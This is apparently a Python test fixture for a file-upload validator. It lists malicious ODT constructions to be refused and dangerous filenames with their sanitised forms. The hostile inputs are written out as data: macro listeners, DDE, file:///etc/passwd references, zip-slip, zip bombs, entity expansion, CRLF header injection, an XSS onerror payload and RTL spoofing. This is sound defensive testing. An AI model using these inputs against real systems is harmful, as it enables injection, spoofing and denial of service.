SCRIPTED = '<text:p><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></text:p>'
ENCRYPTED = '<manifest:file-entry manifest:full-path="a"><manifest:encryption-data/></manifest:file-entry>'
OPEN_DOCUMENTS = {
    "odt_kind_not_first": (
        "letter.odt",
        lambda: making.packed(dict(reversed(making.odt_members().items())), stored=("mimetype",)),
        "does not say of itself",
    ),
    "odt_kind_packed": ("letter.odt", lambda: making.packed(making.odt_members()), "does not say of itself"),
    "odt_kind_with_more": (
        "letter.odt",
        lambda: making.odt(mimetype=f"{making.ODT}-template"),
        "does not say of itself",
    ),
    "odt_other_root": (
        "letter.odt",
        lambda: making.odt(**{"META-INF__manifest_dot_xml": making.manifest("application/x-other")}),
        "does not say of itself",
    ),
    "odt_without_manifest": (
        "letter.odt",
        lambda: making.packed({"mimetype": making.ODT, "content.xml": "<a/>"}, stored=("mimetype",)),
        "does not say of itself",
    ),
    "odt_basic": ("letter.odt", lambda: making.odt(Basic__Standard__a_dot_xml="<a/>"), "holds macros or scripts"),
    "odt_python": ("letter.odt", lambda: making.odt(Scripts__python__a_dot_py="import os"), "holds macros or scripts"),
    "odt_dialog": ("letter.odt", lambda: making.odt(Dialogs__a_dot_xml="<a/>"), "holds macros or scripts"),
    "odt_listener": ("letter.odt", lambda: making.odt(SCRIPTED), "holds macros or scripts"),
    "odt_script_link": (
        "letter.odt",
        lambda: making.odt('<text:a xlink:href="vnd.sun.star.script:a.py$b?language=Python">x</text:a>'),
        "holds macros or scripts",
    ),
    "odt_macro_link": (
        "letter.odt",
        lambda: making.odt('<text:a xlink:href="macro:///a.b.c">x</text:a>'),
        "holds macros",
    ),
    "odt_share_link": ("letter.odt", lambda: making.odt('<text:a xlink:href="//host/share">x</text:a>'), "would fetch"),
    "odt_dde": ("letter.odt", lambda: making.odt("<office:dde-source/>"), "would fetch something"),
    "odt_picture_elsewhere": (
        "letter.odt",
        lambda: making.odt('<draw:image xlink:href="http://a.example/x.png"/>'),
        "would fetch something",
    ),
    "odt_file_elsewhere": (
        "letter.odt",
        lambda: making.odt('<text:section-source xlink:href="file:///etc/passwd"/>'),
        "would fetch something",
    ),
    "odt_ole": ("letter.odt", lambda: making.odt(**{"Object 1": OLE}), "has another file inside"),
    "odt_password": (
        "letter.odt",
        lambda: making.odt(**{"META-INF__manifest_dot_xml": making.manifest(more=ENCRYPTED)}),
        "protected by a password",
    ),
    "odt_laughs": ("letter.odt", lambda: making.odt(content_dot_xml=LAUGHS), "declares a document type"),
    "odt_outside_entity": ("letter.odt", lambda: making.odt(content_dot_xml=OUTSIDE), "declares a document type"),
    "odt_slip": (
        "letter.odt",
        lambda: making.packed({**making.odt_members(), "../x": "x"}, stored=("mimetype",)),
        "would unpack outside of it",
    ),
    "odt_bomb": ("letter.odt", lambda: making.odt(a_dot_xml=b"0" * (60 * MB)), "far larger than it looks"),
}
REFUSED: dict[str, tuple[str, Build, str]] = {
    **wrong_endings(), **other_kinds(), **endings_not_taken(), **TEXTS, **PICTURES, **PDFS, **OFFICE, **OPEN_DOCUMENTS,
}  # fmt: skip
NAMES = {
    # as it comes -> as it is kept
    "name_turned_around": ("evil\u202efdp.pdf", "evilfdp.pdf"),
    "name_isolated": ("a\u2066b\u2069.pdf", "ab.pdf"),
    "name_with_marks": ("\u200fa\u200b\ufeffb.pdf", "ab.pdf"),
    "name_with_path": ("../../etc/passwd.pdf", "passwd.pdf"),
    "name_with_windows_path": ("C:\\Users\\ana\\plan.pdf", "plan.pdf"),
    "name_with_null": ("a.php\0.pdf", "a.php.pdf"),
    "name_with_header": ('a"\r\nSet-Cookie: b=c\r\n\r\n.pdf', "a_Set-Cookie_ b=c.pdf"),
    "name_with_markup": ("<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"),
    "name_of_a_device": ("con.pdf", "_con.pdf"),
    "name_of_a_port": ("COM1.pdf", "_COM1.pdf"),
    "name_with_last_dots": ("letter.pdf. . .", "letter.pdf"),
    "name_too_long": ("x" * 5000 + ".pdf", "x" * 196 + ".pdf"),
    "name_with_stream": ("a.pdf:hidden.pdf", "a.pdf_hidden.pdf"),
    "name_with_pattern": ("a*?|b.pdf", "a___b.pdf"),
    "name_with_line_separator": ("a\u2028b.pdf", "a b.pdf"),
    "name_in_capitals": ("LETTER.PDF", "LETTER.PDF"),
    "name_with_blanks": ("a" + " " * 150 + ".exe.pdf", "a .exe.pdf"),
}
